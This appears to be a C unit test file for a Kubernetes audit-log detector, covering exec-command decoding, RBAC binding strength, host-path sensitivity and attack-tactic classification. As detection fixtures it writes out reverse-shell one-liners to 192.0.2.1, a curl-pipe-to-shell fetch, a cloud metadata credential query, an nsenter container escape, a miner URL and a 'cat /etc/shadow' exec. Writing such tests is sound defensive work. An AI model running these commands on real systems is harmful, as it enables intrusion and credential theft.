/* What is known of Kubernetes: requests, pods, bindings, images, commands. */
#include "test.h"

#include <stdio.h>
#include <stdlib.h>

#include "base/buf.h"
#include "detect/anonymous.h"
#include "detect/csr.h"
#include "detect/host_path.h"
#include "detect/image.h"
#include "detect/k8s_act.h"
#include "detect/k8s_exec.h"
#include "detect/k8s_request.h"
#include "detect/k8s_service.h"
#include "detect/pod_spec.h"
#include "detect/rbac.h"
#include "detect/rbac_rules.h"
#include "detect/shell.h"

/* An event whose record is the JSON text; borrows from the fixture. */
struct fixture {
	struct json_parser *parser;
	char room[32768 + JSON_PADDING];
	struct audit audit;
	struct event event;
};

static void
fill(struct fixture *f, const char *json)
{
	if (f->parser == NULL)
		f->parser = json_parser_new(sizeof(f->room));
	(void)snprintf(f->room, sizeof(f->room) - JSON_PADDING, "%s", json);
	f->event =
	    (struct event){ .source = SOURCE_K8S_AUDIT, .audit = &f->audit };
	assert_int_equal(
	    json_parse(f->parser, span_str(f->room), &f->event.record),
	    STATUS_OK);
}

static void
done(struct fixture *f)
{
	json_parser_free(f->parser);
}

static void
dry_runs_and_refusals_are_no_acts(void **state)
{
	struct audit a = { .verb = SPAN("create"),
		.resource = SPAN("pods"),
		.stage = SPAN("ResponseComplete"),
		.uri = SPAN("/api/v1/namespaces/a/pods?fieldManager=x"),
		.query = SPAN("fieldManager=x"),
		.code = 201 };

	(void)state;
	assert_true(k8s_request_wrote(&a));
	a.query = SPAN("dryRun=All&x=y");
	assert_false(k8s_request_wrote(&a));
	a.query = SPAN("");
	a.code = 403;
	assert_false(k8s_request_wrote(&a));
	a.code = 201;
	a.stage = SPAN("RequestReceived");
	assert_false(k8s_request_wrote(&a));
	a.stage = SPAN("Panic");
	assert_false(k8s_request_wrote(&a));
}

static void
stolen_controller_credentials_are_not_the_controller(void **state)
{
	struct audit a = {
		.user = SPAN("system:serviceaccount:kube-system:"
			     "replicaset-controller"),
		.agent = SPAN("kube-controller-manager/v1.30.1"),
	};

	(void)state;
	assert_true(k8s_request_by_system(&a));
	a.agent = SPAN("curl/8.5.0");
	assert_false(k8s_request_by_system(&a));
	a.user = SPAN("system:node:n1");
	assert_false(k8s_request_by_system(&a));
	a.agent = SPAN("kubelet/v1.30.1");
	assert_true(k8s_request_by_system(&a));
	a.impersonated = SPAN("bob");
	assert_false(k8s_request_by_system(&a));
	a = (struct audit){ .user = SPAN("system:serviceaccount:shop:"
					 "my-controller") };
	assert_false(k8s_request_by_system(&a));
}

static void
exec_commands_are_decoded(void **state)
{
	char room[K8S_EXEC_COMMAND_BYTES];

	(void)state;
	assert_span_equal(
	    k8s_exec_command(SPAN("/api/v1/namespaces/a/pods/p/exec?command=sh"
				  "&command=-c&command=cat%20%2Fetc%2Fshadow"
				  "&container=c&stdin=true"),
		room),
	    SPAN("sh -c cat /etc/shadow"));
	assert_span_equal(
	    k8s_exec_command(SPAN("/x?command=a+b&command=%zz%2"), room),
	    SPAN("a b %zz%2"));
	assert_int_equal(k8s_exec_command(SPAN("/x"), room).len, 0);
	assert_int_equal(k8s_exec_command(span_of(NULL, 0), room).len, 0);
	assert_span_equal(
	    k8s_exec_container(SPAN("/x?command=a&container=c1")), SPAN("c1"));
}

static void
a_long_command_is_cut(void **state)
{
	char room[K8S_EXEC_COMMAND_BYTES], uri[3 * K8S_EXEC_COMMAND_BYTES];

	(void)state;
	memset(uri, 'a', sizeof(uri));
	memcpy(uri, "/x?command=", 11);
	assert_int_equal(k8s_exec_command(span_of(uri, sizeof(uri)), room).len,
	    K8S_EXEC_COMMAND_BYTES);
}

static void
images_lose_version_and_gain_registry(void **state)
{
	static const struct {
		const char *image, *repository, *registry;
	} rows[] = {
		{ "nginx", "docker.io/library/nginx", "docker.io/library" },
		{ "nginx:1.27@sha256:ab", "docker.io/library/nginx",
		    "docker.io/library" },
		{ "docker.io/nginx", "docker.io/library/nginx",
		    "docker.io/library" },
		{ "index.docker.io/library/nginx", "docker.io/library/nginx",
		    "docker.io/library" },
		{ "team/app:1", "docker.io/team/app", "docker.io/team" },
		{ "localhost:5000/app:1", "localhost:5000/app",
		    "localhost:5000" },
		{ "r.example.org/a/b/c:x", "r.example.org/a/b/c",
		    "r.example.org/a" },
		{ "", "", "" },
	};

	(void)state;
	for (size_t i = 0; i < COUNTOF(rows); i++) {
		char room[IMAGE_BYTES];
		struct span r = image_repository(span_str(rows[i].image), room);

		assert_span_equal(r, span_str(rows[i].repository));
		assert_span_equal(
		    image_registry(r), span_str(rows[i].registry));
	}
}

static void
host_paths_are_cleaned_before_they_are_judged(void **state)
{
	char room[HOST_PATH_BYTES];

	(void)state;
	assert_span_equal(
	    host_path_clean(SPAN("//var/./run/../run/docker.sock/"), room),
	    SPAN("/var/run/docker.sock"));
	assert_span_equal(host_path_clean(SPAN("/../.."), room), SPAN("/"));
	assert_true(host_path_is_sensitive(SPAN("/")));
	assert_true(host_path_is_sensitive(SPAN("/etc/kubernetes/manifests")));
	assert_true(host_path_is_sensitive(SPAN("/run/k3s/containerd.sock")));
	assert_false(host_path_is_sensitive(SPAN("/etc/localtime")));
	assert_false(host_path_is_sensitive(SPAN("/var/log")));
	assert_false(host_path_is_sensitive(SPAN("/procurement")));
	assert_false(host_path_is_sensitive(
	    SPAN("/var/lib/kubelet/plugins/csi.example")));
}

static void
commands_are_read_for_what_they_do(void **state)
{
	static const struct {
		const char *command;
		enum shell_intent intent;
	} rows[] = {
		{ "bash -i >& /dev/tcp/192.0.2.1/99 0>&1", SHELL_REVERSE },
		{ "nc 192.0.2.1 99 -e /bin/sh", SHELL_REVERSE },
		{ "rsync -e ssh a b", SHELL_ORDINARY },
		{ "curl -s http://x/i.sh | sh", SHELL_FETCH_RUN },
		{ "curl -s http://x/health", SHELL_ORDINARY },
		{ "curl 169.254.169.254/latest", SHELL_CREDENTIALS },
		{ "nsenter -t 1 -m sh", SHELL_ESCAPE },
		{ "./x -o stratum+tcp://pool:3333", SHELL_MINER },
		{ "sh -c id", SHELL_ORDINARY },
		{ "", SHELL_ORDINARY },
	};

	(void)state;
	for (size_t i = 0; i < COUNTOF(rows); i++)
		assert_int_equal(
		    shell_intent_of(span_str(rows[i].command)), rows[i].intent);
}

static void
the_pod_of_a_template_is_found(void **state)
{
	struct fixture f = { 0 };
	struct pod_spec pod;

	(void)state;
	f.audit = (struct audit){ .resource = SPAN("cronjobs"),
		.verb = SPAN("create"),
		.ns = SPAN("a"),
		.name = SPAN("j") };
	fill(&f,
	    "{\"requestObject\":{\"spec\":{\"jobTemplate\":{\"spec\":{"
	    "\"template\":{\"spec\":{\"hostPID\":true,\"containers\":["
	    "{\"name\":\"c\",\"image\":\"x\",\"command\":[\"sh\",\"-c\"],"
	    "\"args\":[\"nsenter -t 1 sh\"],\"volumeMounts\":[{\"name\":"
	    "\"v\",\"readOnly\":true}]},7,{\"name\":\"d\","
	    "\"securityContext\":{\"capabilities\":{\"add\":[\"CAP_SYS_ADMIN\""
	    "]}}}],\"volumes\":[{\"name\":\"v\",\"hostPath\":{\"path\":"
	    "\"/etc\"}},{\"name\":\"unused\",\"hostPath\":{\"path\":\"/\"}}]"
	    "}}}}}}}");
	assert_true(pod_spec_read(&f.event, &pod));
	assert_int_equal(pod.ncontainers, 2);
	assert_int_equal(pod.containers[0].power, POD_POWER_HOST_PID);
	assert_int_equal(pod_spec_powerful(&pod)->power, POD_POWER_CAPABILITY);
	assert_int_equal(pod_spec_hostile(&pod)->intent, SHELL_ESCAPE);
	assert_int_equal(pod.nmounts, 1);
	assert_true(pod.mounts[0].read_only);
	assert_span_equal(pod.workload, SPAN("a/CronJob/j"));
	done(&f);
}

static void
a_pod_belongs_to_its_deployment(void **state)
{
	struct fixture f = { 0 };
	struct pod_spec pod;

	(void)state;
	f.audit = (struct audit){ .resource = SPAN("pods"), .ns = SPAN("a") };
	fill(&f, "{\"responseObject\":{\"kind\":\"Pod\",\"metadata\":{\"name\":"
		 "\"web-1-6d5f-x\",\"labels\":{\"pod-template-hash\":\"6d5f\"},"
		 "\"ownerReferences\":[{\"kind\":\"ReplicaSet\",\"name\":"
		 "\"web-1-6d5f\",\"controller\":true}]},\"spec\":{}}}");
	assert_true(pod_spec_read(&f.event, &pod));
	assert_true(pod.controlled);
	assert_span_equal(pod.workload, SPAN("a/Deployment/web-1"));
	fill(&f, "{\"responseObject\":{\"kind\":\"Status\"}}");
	assert_false(pod_spec_read(&f.event, &pod));
	fill(&f, "{\"requestObject\":{\"spec\":{\"containers\":{}}}}");
	assert_true(pod_spec_read(&f.event, &pod));
	assert_int_equal(pod.ncontainers, 0);
	done(&f);
}

static void
bindings_are_read_from_objects_and_patches(void **state)
{
	struct fixture f = { 0 };
	struct rbac_binding b;

	(void)state;
	f.audit = (struct audit){ .resource = SPAN("rolebindings"),
		.ns = SPAN("shop") };
	fill(&f,
	    "{\"requestObject\":{\"roleRef\":{\"kind\":\"ClusterRole\","
	    "\"name\":\"admin\"},\"subjects\":[{\"kind\":\"ServiceAccount\","
	    "\"name\":\"default\"},\"x\",{\"kind\":\"Group\",\"name\":"
	    "\"system:unauthenticated\"}]}}");
	assert_true(rbac_read(&f.event, &b));
	assert_true(rbac_is_admin(&b));
	assert_int_equal(b.nsubjects, 2);
	assert_span_equal(b.subjects[0].ns, SPAN("shop"));
	assert_true(rbac_is_default_account(&b.subjects[0]));
	assert_true(rbac_is_anonymous(&b.subjects[1]));
	fill(&f,
	    "{\"requestObject\":[{\"op\":\"add\",\"path\":\"/subjects/-\","
	    "\"value\":{\"kind\":\"User\",\"name\":\"system:anonymous\"}},"
	    "{\"path\":\"/metadata/labels\",\"value\":{\"name\":\"y\"}}]}");
	assert_true(rbac_read(&f.event, &b));
	assert_int_equal(b.nsubjects, 1);
	assert_true(rbac_is_anonymous(&b.subjects[0]));
	assert_false(rbac_is_admin(&b));
	fill(&f, "{\"level\":\"Metadata\"}");
	assert_false(rbac_read(&f.event, &b));
	done(&f);
}

/* `n` items, each with its number between two texts. */
static void
add_many(struct buf *out, const char *before, unsigned n, const char *after)
{
	for (unsigned i = 0; i < n; i++)
		buf_printf(out, "%s%u%s,", before, i, after);
}

static void
hides_behind_many(void **state)
{
	struct fixture f = { 0 };
	struct pod_spec pod;
	struct buf text = { 0 };
	bool found = false;

	(void)state;
	f.audit = (struct audit){ .resource = SPAN("pods"), .ns = SPAN("a") };
	buf_add_str(&text, "{\"requestObject\":{\"spec\":{\"containers\":[");
	add_many(&text, "{\"name\":\"c", 60,
	    "\",\"volumeMounts\":[{\"name\":\"v0\"},{\"name\":\"v1\"}]}");
	buf_add_str(&text,
	    "{\"name\":\"last\",\"securityContext\":{\"privileged\":true},"
	    "\"args\":[\"xmrig\"],\"volumeMounts\":[");
	add_many(&text, "{\"name\":\"v", 300, "\"}");
	buf_add_str(&text, "{\"name\":\"etc\"}]}],\"volumes\":[");
	add_many(&text, "{\"name\":\"v", 60,
	    "\",\"hostPath\":{\"path\":\"/data\"}}");
	buf_add_str(
	    &text, "{\"name\":\"etc\",\"hostPath\":{\"path\":\"/etc\"}}]}}}");
	fill(&f, buf_text(&text));
	assert_true(pod_spec_read(&f.event, &pod));
	assert_int_equal(pod.ncontainers, POD_SPEC_CONTAINERS_MAX);
	assert_non_null(pod_spec_powerful(&pod));
	assert_non_null(pod_spec_hostile(&pod));
	assert_int_equal(pod.nmounts, POD_SPEC_MOUNTS_MAX);
	for (size_t i = 0; i < pod.nmounts; i++)
		found = found || span_equal(pod.mounts[i].path, SPAN("/etc"));
	assert_true(found);
	buf_done(&text);
	done(&f);
}

static void
a_subject_hides_behind_many(void **state)
{
	struct fixture f = { 0 };
	struct rbac_binding b;
	struct buf text = { 0 };
	bool found = false;

	(void)state;
	f.audit =
	    (struct audit){ .resource = SPAN("rolebindings"), .ns = SPAN("a") };
	buf_add_str(&text, "{\"requestObject\":{\"subjects\":[");
	add_many(&text, "{\"kind\":\"User\",\"name\":\"u", 40, "\"}");
	add_many(&text,
	    "{\"kind\":\"ServiceAccount\",\"name\":\"default\",\"x\":", 40,
	    "}");
	buf_add_str(
	    &text, "{\"kind\":\"User\",\"name\":\"system:anonymous\"}]}}");
	fill(&f, buf_text(&text));
	assert_true(rbac_read(&f.event, &b));
	assert_int_equal(b.nsubjects, RBAC_SUBJECTS_MAX);
	for (size_t i = 0; i < b.nsubjects; i++)
		found = found || rbac_is_anonymous(&b.subjects[i]);
	assert_true(found);
	buf_done(&text);
	done(&f);
}

static void
requests_serve_tactics(void **state)
{
	static const struct {
		const char *verb, *resource, *sub, *uri;
		enum tactic tactic;
	} rows[] = {
		{ "list", "secrets", "", "", TACTIC_CREDENTIAL_ACCESS },
		{ "create", "serviceaccounts", "token", "",
		    TACTIC_CREDENTIAL_ACCESS },
		{ "get", "pods", "exec", "", TACTIC_EXECUTION },
		{ "get", "pods", "log", "", TACTIC_DISCOVERY },
		{ "patch", "pods", "ephemeralcontainers", "",
		    TACTIC_PRIVILEGE_ESCALATION },
		{ "delete", "events", "", "", TACTIC_DEFENSE_EVASION },
		{ "create", "events", "", "", TACTIC_NONE },
		{ "create", "clusterrolebindings", "", "",
		    TACTIC_PRIVILEGE_ESCALATION },
		{ "create", "daemonsets", "", "", TACTIC_PERSISTENCE },
		{ "delete", "namespaces", "", "", TACTIC_IMPACT },
		{ "patch", "deployments", "scale", "", TACTIC_IMPACT },
		{ "patch", "pods", "status", "", TACTIC_NONE },
		{ "update", "leases", "", "", TACTIC_NONE },
		{ "impersonate", "users", "", "", TACTIC_PRIVILEGE_ESCALATION },
		{ "get", "", "", "/healthz", TACTIC_NONE },
		{ "get", "", "", "/version?timeout=32s", TACTIC_NONE },
		{ "get", "", "", "/versions", TACTIC_DISCOVERY },
		{ "get", "", "", "/metrics", TACTIC_DISCOVERY },
	};

	(void)state;
	for (size_t i = 0; i < COUNTOF(rows); i++) {
		struct audit a = { .verb = span_str(rows[i].verb),
			.resource = span_str(rows[i].resource),
			.subresource = span_str(rows[i].sub),
			.uri = span_str(rows[i].uri) };

		assert_int_equal(tactic_of_audit(&a), rows[i].tactic);
	}
}

static void
watchers_are_guarded(void **state)
{
	struct audit a = { .verb = SPAN("delete"),
		.resource = SPAN("daemonsets"),
		.name = SPAN("aws-for-fluent-bit") };

	(void)state;
	assert_int_equal(tactic_of_audit(&a), TACTIC_DEFENSE_EVASION);
	a.name = SPAN("web");
	assert_int_equal(tactic_of_audit(&a), TACTIC_IMPACT);
}

static void
what_is_meant_for_anyone_is_no_anonymous_access(void **state)
{
	struct audit a = { .user = SPAN("system:anonymous"),
		.verb = SPAN("get"),
		.stage = SPAN("ResponseComplete"),
		.uri = SPAN("/readyz"),
		.code = 200 };
	struct event ev = { .source = SOURCE_K8S_AUDIT, .audit = &a };

	(void)state;
	assert_int_equal(anonymous_tactic(&ev), TACTIC_NONE);
	a.resource = SPAN("configmaps");
	a.ns = SPAN("kube-public");
	a.name = SPAN("cluster-info");
	assert_int_equal(anonymous_tactic(&ev), TACTIC_NONE);
	a.ns = SPAN("shop");
	assert_int_equal(anonymous_tactic(&ev), TACTIC_DISCOVERY);
	a.verb = SPAN("create");
	a.resource = SPAN("clusterrolebindings");
	assert_int_equal(anonymous_tactic(&ev), TACTIC_PERSISTENCE);
	a.verb = SPAN("update");
	a.resource = SPAN("leases");
	assert_int_equal(anonymous_tactic(&ev), TACTIC_IMPACT);
	a.user = SPAN("bob");
	assert_int_equal(anonymous_tactic(&ev), TACTIC_NONE);
}

static void
a_certificate_request_names_its_groups(void **state)
{
	/* base64 of PEM of DER with the organisation in it */
	struct span masters =
	    SPAN("LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUFBTURuTjVj"
		 "M1JsYlRwdFlYTjBaWEp6RENvPQotLS0tLUVORCBDRVJUSUZJQ0FURSBSRVFV"
		 "RVNULS0tLS0K");

	(void)state;
	assert_true(csr_mentions(masters, SPAN("system:masters")));
	assert_false(csr_mentions(masters, SPAN("system:nodes")));
	assert_false(csr_mentions(SPAN(""), SPAN("system:masters")));
	assert_false(csr_mentions(SPAN("!!!"), SPAN("system:masters")));
}

#define RULE(groups, resources, verbs)                                         \
	"{\"responseObject\":{\"kind\":\"ClusterRole\",\"rules\":[{"           \
	"\"apiGroups\":[" groups "],\"resources\":[" resources                 \
	"],\"verbs\":[" verbs "]}]}}"

static void
roles_are_as_strong_as_their_strongest_rule(void **state)
{
	static const struct {
		const char *json;
		enum rbac_power power;
	} rows[] = {
		{ RULE("\"\"", "\"pods\"", "\"get\""), RBAC_POWER_PLAIN },
		{ RULE("\"\"", "\"secrets\"", "\"list\""), RBAC_POWER_STRONG },
		{ RULE("\"\"", "\"pods\"", "\"*\""), RBAC_POWER_STRONG },
		{ RULE("\"shop.example\"", "\"*\"", "\"*\""),
		    RBAC_POWER_STRONG },
		{ RULE("\"\"", "\"*\"", "\"get\""), RBAC_POWER_WIDE },
		{ RULE("\"\"", "\"users\"", "\"impersonate\""),
		    RBAC_POWER_GRANTS },
		{ RULE("\"*\"", "\"*\"", "\"*\""), RBAC_POWER_ALL },
		{ "{\"requestObject\":[{\"op\":\"add\",\"path\":\"/rules/-\","
		  "\"value\":{\"apiGroups\":[\"*\"],\"resources\":[\"*\"],"
		  "\"verbs\":[\"*\"]}}]}",
		    RBAC_POWER_ALL },
	};
	struct fixture f = { 0 };
	enum rbac_power power;

	(void)state;
	for (size_t i = 0; i < COUNTOF(rows); i++) {
		fill(&f, rows[i].json);
		assert_true(rbac_rules_read(&f.event, &power));
		assert_int_equal(power, rows[i].power);
	}
	fill(&f, "{}");
	assert_false(rbac_rules_read(&f.event, &power));
	assert_true(rbac_rules_are_built_in(SPAN("cluster-admin")));
	assert_false(rbac_rules_are_built_in(SPAN("system:coredns")));
	done(&f);
}

static void
a_load_balancer_kept_inside_is_not_public(void **state)
{
	struct fixture f = { 0 };
	struct json_value service;

	(void)state;
	fill(&f, "{\"requestObject\":{\"metadata\":{},\"spec\":{\"type\":"
		 "\"LoadBalancer\",\"selector\":{\"app\":\"web-1\"}}}}");
	service = k8s_request_object(&f.event);
	assert_true(k8s_service_is_public(service));
	assert_true(k8s_service_is_for(&f.event, service, SPAN("web")));
	assert_false(k8s_service_is_for(&f.event, service, SPAN("api")));
	fill(&f, "{\"requestObject\":{\"metadata\":{\"annotations\":{"
		 "\"networking.gke.io/load-balancer-type\":\"Internal\"}},"
		 "\"spec\":{\"type\":\"LoadBalancer\"}}}");
	assert_false(k8s_service_is_public(k8s_request_object(&f.event)));
	done(&f);
}

static void
parts_of_the_platform_do_no_acts(void **state)
{
	static const char *const users[] = { "eks:addon-manager",
		"system:gke-common-webhooks", "aksService", "system:apiserver",
		"system:k3s-supervisor", "system:anonymous", "" };
	struct audit a = { .verb = SPAN("create"),
		.stage = SPAN("ResponseComplete"),
		.agent = SPAN("component/v1"),
		.code = 201 };

	(void)state;
	for (size_t i = 0; i < COUNTOF(users); i++) {
		a.user = span_str(users[i]);
		assert_false(k8s_act_done(&a));
	}
	a.user = SPAN("bob");
	assert_true(k8s_act_done(&a));
	a.user = SPAN("eks:addon-manager");
	a.agent = SPAN("kubectl/v1.30.1");
	assert_true(k8s_act_done(&a));
	assert_true(k8s_act_by_hand(SPAN("curl/8.5.0")));
	assert_false(k8s_act_by_hand(SPAN("Go-http-client/2.0")));
}

static void
a_request_is_counted_once(void **state)
{
	struct k8s_exec_seen seen = { 0 };

	(void)state;
	assert_true(k8s_exec_is_first(&seen, SPAN("a")));
	assert_false(k8s_exec_is_first(&seen, SPAN("a")));
	assert_true(k8s_exec_is_first(&seen, SPAN("b")));
	assert_true(k8s_exec_is_first(&seen, SPAN("")));
	assert_true(k8s_exec_is_first(&seen, SPAN("")));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		TEST("dry runs and refusals are no acts",
		    dry_runs_and_refusals_are_no_acts),
		TEST("stolen controller credentials are not the controller",
		    stolen_controller_credentials_are_not_the_controller),
		TEST("exec commands are decoded", exec_commands_are_decoded),
		TEST("a long command is cut", a_long_command_is_cut),
		TEST("images lose version and gain registry",
		    images_lose_version_and_gain_registry),
		TEST("host paths are cleaned before they are judged",
		    host_paths_are_cleaned_before_they_are_judged),
		TEST("commands are read for what they do",
		    commands_are_read_for_what_they_do),
		TEST("the pod of a template is found",
		    the_pod_of_a_template_is_found),
		TEST("a pod belongs to its deployment",
		    a_pod_belongs_to_its_deployment),
		TEST("bindings are read from objects and patches",
		    bindings_are_read_from_objects_and_patches),
		TEST(
		    "what matters of a pod cannot hide behind many that do not",
		    hides_behind_many),
		TEST("anyone cannot hide behind many subjects",
		    a_subject_hides_behind_many),
		TEST("requests serve tactics", requests_serve_tactics),
		TEST("watchers are guarded", watchers_are_guarded),
		TEST("what is meant for anyone is no anonymous access",
		    what_is_meant_for_anyone_is_no_anonymous_access),
		TEST("a certificate request names its groups",
		    a_certificate_request_names_its_groups),
		TEST("roles are as strong as their strongest rule",
		    roles_are_as_strong_as_their_strongest_rule),
		TEST("a load balancer kept inside is not public",
		    a_load_balancer_kept_inside_is_not_public),
		TEST("parts of the platform do no acts",
		    parts_of_the_platform_do_no_acts),
		TEST("a request is counted once", a_request_is_counted_once),
	};

	return cmocka_run_group_tests_name("k8s", tests, NULL, NULL);
}
